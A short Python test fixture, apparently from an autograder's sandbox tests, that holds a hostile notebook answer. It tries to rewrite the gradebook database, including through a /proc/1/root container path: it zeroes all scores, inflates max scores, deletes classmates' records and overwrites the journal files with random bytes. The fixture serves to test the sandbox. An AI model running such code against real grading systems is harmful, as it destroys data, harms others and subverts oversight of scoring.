"""Grades of its own making

tries: to give itself full points, and others none
stopped by: the gradebook is not there; only the grading process writes it
deserves: all but adam_step
"""

# %% answer-adam_step
import os
import sqlite3


def write():
    for path in ("{GRADEBOOK}", "/proc/1/root{GRADEBOOK}"):
        try:
            with sqlite3.connect(f"file:{path}?mode=rw", uri=True) as database:
                database.execute("update grade set auto_score = 0, manual_score = 0")
                database.execute("update grade_cell set max_score = 1000")
                database.execute("delete from student where id like '%classmate%'")
        except sqlite3.Error as error:
            print(error)
        for suffix in ("-journal", "-wal", "-shm"):
            try:
                with open(path + suffix, "wb") as file:
                    file.write(os.urandom(512))
            except OSError as error:
                print(error)


write()


def adam_step(*args):
    write()
